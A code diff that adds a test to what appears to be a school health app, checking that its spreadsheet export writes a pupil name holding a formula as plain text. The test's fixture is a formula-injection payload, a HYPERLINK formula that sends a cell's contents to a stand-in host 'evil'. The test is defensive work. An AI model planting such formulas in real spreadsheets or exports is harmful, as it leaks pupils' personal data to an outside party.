@@ -397,6 +397,18 @@ def test_export_has_one_row_per_finding_with_relevant_measurements(client, sign_
     assert "110101201705140028" not in flat
 
 
+def test_export_writes_a_formula_name_as_text(client, sign_in, flagged):
+    """A name stored before input was checked cannot run in the nurse's spreadsheet."""
+    pupil = next(s for s in flagged.world.students if s.student_number == "G0001")
+    pupil.name = '=HYPERLINK("http://evil/?"&B2,"Pupil 1")'
+    db.session.commit()
+    sign_in(flagged.world.nurse)
+    rows = _sheet(client.get(_url(flagged.world.session, "/export.xlsx")).data)
+    names = {r[1] for r in rows[1:]}
+    assert "'" + pupil.name in names
+    assert pupil.name not in names
+
+
 def test_export_applies_the_filters(client, sign_in, flagged):
     sign_in(flagged.world.nurse)
     rows = _sheet(
